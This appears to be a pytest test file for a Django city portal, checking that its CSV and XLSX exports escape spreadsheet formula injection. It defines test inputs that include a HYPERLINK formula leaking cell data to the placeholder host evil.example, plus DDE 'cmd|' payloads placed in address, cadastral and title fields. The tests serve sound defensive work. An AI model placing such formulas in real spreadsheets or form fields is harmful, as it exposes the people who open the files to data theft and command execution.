"""Every CSV and XLSX the portal writes is safe to open in a spreadsheet program: text that begins
with =, +, -, @, a tab or a carriage return gets a leading apostrophe in CSV (OWASP) and is a text
cell in XLSX; numbers stay numbers. One helper (core.spreadsheets) serves every export."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from openpyxl import load_workbook

from citizen_requests.models import Request
from core.spreadsheets import cell_safe, cell_unescape
from gis_layers.exporters import export_layer
from gis_layers.services import feature_create
from housing_registry.models import Building, WorkRecord
from tests.citizen_requests.builders import file_request
from tests.gis_layers.conftest import make_layer, point

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Деталі")'


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+2", "'=1+2"),
        ("+380 5348 4-41-01", "'+380 5348 4-41-01"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.5", "-12.5"),
        ("+7", "+7"),
        ("вул. Миру, 9", "вул. Миру, 9"),
        (-3, -3),
        (None, None),
    ],
)
def test_formula_leading_text_gets_an_apostrophe_and_numbers_stay_numbers(value, written):
    assert cell_safe(value) == written
    assert cell_unescape(cell_safe(value)) == value


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _no_live_formulas(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell.replace(",", "."))  # only a number may begin so


def test_the_requests_export_neutralises_a_residents_formula(city, client):
    filed = file_request(text=INJECTION + " — і яма на дорозі біля під'їзду.")
    Request.objects.filter(pk=filed.pk).update(address="@SUM(1+1)*cmd|' /C calc'!A0")
    body = b"".join(client.get("/requests/export.csv").streaming_content)
    rows = _csv(body)
    header, mine = rows[0], next(r for r in rows if r and r[0] == filed.number)
    assert mine[header.index("address")] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    text = mine[header.index("text")]
    assert not text.startswith("=")
    _no_live_formulas(rows)
    assert float(mine[header.index("lat")]) > 40  # coordinates are still plain numbers


def test_the_registry_export_csv_and_xlsx_keep_formulas_as_text(city, client):
    client.force_login(User.objects.get(username="gisadmin"))
    building = Building.objects.order_by("pk").first()
    Building.objects.filter(pk=building.pk).update(cadastral_number="=cmd|' /C calc'!A0")
    rows = _csv(client.get("/registry/export.csv").content)
    header = rows[0]
    cadastral = [r[header.index("cadastral_number")] for r in rows[1:]]
    assert "'=cmd|' /C calc'!A0" in cadastral
    _no_live_formulas(rows)
    sheet = load_workbook(io.BytesIO(client.get("/registry/export.xlsx").content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == "=cmd|' /C calc'!A0"]
    assert cells and all(c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_the_registry_report_csv_and_xlsx_keep_formulas_as_text(city, client):
    client.force_login(User.objects.get(username="dispatcher"))
    WorkRecord.objects.update(title="+1+cmd|' /C notepad'!A0")
    query = "/registry/reports/?report=works"
    content = client.get(query + "&format=csv").content
    rows = _csv(content)
    assert any(cell == "'+1+cmd|' /C notepad'!A0" for row in rows for cell in row), rows[:3]
    _no_live_formulas(rows)
    sheet = load_workbook(io.BytesIO(client.get(query + "&format=xlsx").content)).active
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


def test_the_layer_csv_export_neutralises_feature_text(city, tmp_path):
    gisadmin = User.objects.get(username="gisadmin")
    layer = make_layer(gisadmin, slug="formulas")
    feature_create(
        layer=layer, actor=gisadmin, geometry=point(), properties={"name": INJECTION, "capacity": 40}
    )
    rows = _csv(export_layer(layer, "csv", tmp_path).read_bytes())
    header, row = rows[0], rows[1]
    assert row[header.index("name")] == "'" + INJECTION
    assert row[header.index("capacity")] == "40"
    _no_live_formulas(rows)
